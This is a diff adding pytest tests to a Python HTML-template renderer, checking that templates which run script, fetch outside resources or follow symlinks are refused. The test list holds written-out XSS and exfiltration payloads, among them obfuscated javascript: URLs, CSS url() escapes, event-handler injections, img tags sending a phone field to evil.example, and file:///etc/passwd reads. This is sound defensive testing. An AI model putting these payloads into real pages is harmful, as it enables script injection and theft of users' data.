@@ -12,6 +12,7 @@ import pytest
 from jiuye_cli.core.fields.value import UNKNOWN
 from jiuye_cli.errors import RuleFileError
 from jiuye_cli.render.template import render, render_all
+from jiuye_cli.render.template_reach import first_reach, without_orders
 
 SHIPPED = Path(__file__).parents[2] / "templates"
 PERSON = {
@@ -168,3 +169,76 @@ def test_many_pages_cost_one_child(tmp_path: Path) -> None:
 def test_a_template_that_is_not_there_is_named(tmp_path: Path) -> None:
     with pytest.raises(RuleFileError, match=r"^没有.html: 找不到模板“没有.html”"):
         render("没有.html", {}, [tmp_path, SHIPPED])
+
+
+REACHING = [
+    "<script>1</script>",
+    "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "<img src='http://evil.example/?{{ phone }}'>",
+    "<img src=//evil.example/{{ phone }}>",
+    "<img src='file:///etc/passwd'>",
+    "<img src='公章.png'>",
+    "<img srcset='https://evil.example 2x'>",
+    "<img src=x onerror='alert(1)'>",
+    "<svg><image href='http://evil.example/'/></svg>",
+    "<svg><image xlink:href='ht&#116;p://evil.example/'/></svg>",
+    "<svg onload=alert(1)></svg>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<link rel=stylesheet href='http://evil.example/a.css'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<style>@import 'http://evil.example/a.css';</style>",
+    "<style>p { background: url(http://evil.example/) }</style>",
+    "<style>p { background: u\\72l(//evil.example/) }</style>",
+    "<style>p { background: image-set('//evil.example/' 1x) }</style>",
+    "<p style='background: url(file:///etc/passwd)'>x</p>",
+    "<iframe srcdoc='x'></iframe>",
+    "<form action='http://evil.example/'></form>",
+    "<base href='http://evil.example/'>",
+    "<object data='http://evil.example/'></object>",
+]
+
+
+@pytest.mark.parametrize("text", REACHING)
+def test_a_page_that_runs_or_fetches_is_refused_with_its_line(tmp_path: Path, text: str) -> None:
+    said = fault(tmp_path, f"一\n{text}")
+    assert said.startswith(("页.html:2: <", "页.html:2: 样式会去取外面的东西"))
+    assert said.endswith("模板里不能有；图片要写成 data:image")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<scr{{ '' }}ipt>1</script>",
+        "<img {{ 's' }}rc='http://evil.example/'>",
+        "<img src='{{ 'http:' ~ '//evil.example/' }}'>",
+    ],
+)
+def test_what_a_template_pieces_together_is_seen_in_the_page(tmp_path: Path, text: str) -> None:
+    assert "模板里不能有" in fault(tmp_path, text)
+
+
+def test_pictures_inside_the_page_links_and_peoples_own_words_pass(tmp_path: Path) -> None:
+    page = (
+        "<style>p { background: url(data:image/png;base64,AA) } b::after { content: '：' }</style>"
+        "<img src='data:image/png;base64,AA'><a href='https://www.gov.cn/'>看</a><a href='#甲'>跳</a>"
+        "<p>{{ words }}</p>"
+    )
+    data = {"words": "<script src=http://x> url(http://y) onload=1"}
+    assert from_template(tmp_path, page, data).endswith(
+        "&lt;script src=http://x&gt; url(http://y) onload=1</p>"
+    )
+
+
+def test_shipped_templates_neither_run_nor_fetch_anything() -> None:
+    for path in SHIPPED.rglob("*.html"):
+        assert first_reach(without_orders(path.read_text(encoding="utf-8"))) is None, path
+
+
+def test_a_template_that_is_a_link_to_somewhere_else_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "别处.txt").write_text("家里的事", encoding="utf-8")
+    own = tmp_path / "own"
+    own.mkdir()
+    (own / "页.html").write_text("{% include '链接.txt' %}", encoding="utf-8")
+    (own / "链接.txt").symlink_to(tmp_path / "别处.txt")
+    with pytest.raises(RuleFileError, match="这是个链接，请把文件本身放进来"):
+        render("页.html", {}, [own, SHIPPED])
